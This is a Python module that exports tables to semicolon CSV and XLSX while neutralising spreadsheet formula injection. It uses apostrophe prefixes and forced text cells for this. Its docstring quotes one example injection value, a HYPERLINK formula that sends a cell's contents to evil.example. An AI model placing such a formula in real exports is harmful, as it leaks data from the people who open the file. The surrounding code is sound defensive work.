"""Writing plain tables to CSV (Swedish Excel: ";" and UTF-8 with BOM) and XLSX.

Both are meant for spreadsheet programs, so a text that a spreadsheet would run as a
formula (it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return: an
initiative named ``=HYPERLINK("http://evil.example/?d="&A2,"x")``) is neutralised:
in CSV it gets a leading apostrophe (``'=HYPERLINK(…``, shown as text), in XLSX every
text is stored as a text cell (never a formula) and such texts also get Excel's
"quote prefix" style, so editing the cell does not turn it into a formula either.
Numbers (``int``, ``Decimal``, ``float``) and texts that are only a number ("-5",
"+46 90 16 10 00") are left as they are. The open-data files (RFC 4180, for programs)
are written elsewhere and keep their values exactly: see docs/open-data.md."""

from __future__ import annotations

import csv
import io
import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_ONLY_A_NUMBER = re.compile(r"[+-]?[0-9][0-9 \u00a0.,]*")
# What XML 1.0 (and so XLSX) cannot hold; openpyxl raises on it.
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def is_formula_like(value) -> bool:
    """A text a spreadsheet would read as a formula (or as the start of one)."""
    return isinstance(value, str) and value.startswith(FORMULA_START) and value not in ("-", "+") and not _ONLY_A_NUMBER.fullmatch(value)


def neutralise(value):
    """A cell value that a spreadsheet shows as the text it is (see the module doc)."""
    return "'" + value if is_formula_like(value) else value


def safe_row(row) -> list:
    """One CSV row for a spreadsheet: ``None`` is empty, formula-like texts neutralised."""
    return ["" if v is None else neutralise(v) for v in row]


def write_csv(headers: list[str], rows: list[list], *, delimiter: str = ";", encoding: str = "utf-8-sig") -> bytes:
    buf = io.StringIO(newline="")
    w = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")
    w.writerow(safe_row(headers))
    for row in rows:
        w.writerow(safe_row(row))
    return buf.getvalue().encode(encoding)


def _put(ws, row: int, column: int, value):
    """Set one cell; a text is always a text cell (openpyxl would make "=…" a formula)."""
    cell = ws.cell(row=row, column=column)
    if isinstance(value, str):
        cell.value = _NOT_XML.sub("\ufffd", value)
        cell.data_type = "s"
        if is_formula_like(value):
            cell.quotePrefix = True
    else:
        cell.value = value
    return cell


def write_xlsx(sheets: list[tuple[str, list[str], list[list]]], *, notes: list[str] | None = None) -> bytes:
    """Several sheets of (title, headers, rows); ``notes`` go above the first table
    (e.g. "Syntetiska demovärden")."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    wb = Workbook(write_only=False)
    wb.remove(wb.active)
    for title, headers, rows in sheets:
        ws = wb.create_sheet(_NOT_XML.sub("", title)[:31] or "Blad")
        r = 0
        for note in notes or []:
            r += 1
            _put(ws, r, 1, note).font = Font(bold=True, color="8A1C1C")
        r += 1
        for c, header in enumerate(headers, start=1):
            _put(ws, r, c, header).font = Font(bold=True)
        for row in rows:
            r += 1
            for c, value in enumerate(row, start=1):
                if value is not None:
                    _put(ws, r, c, value)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()
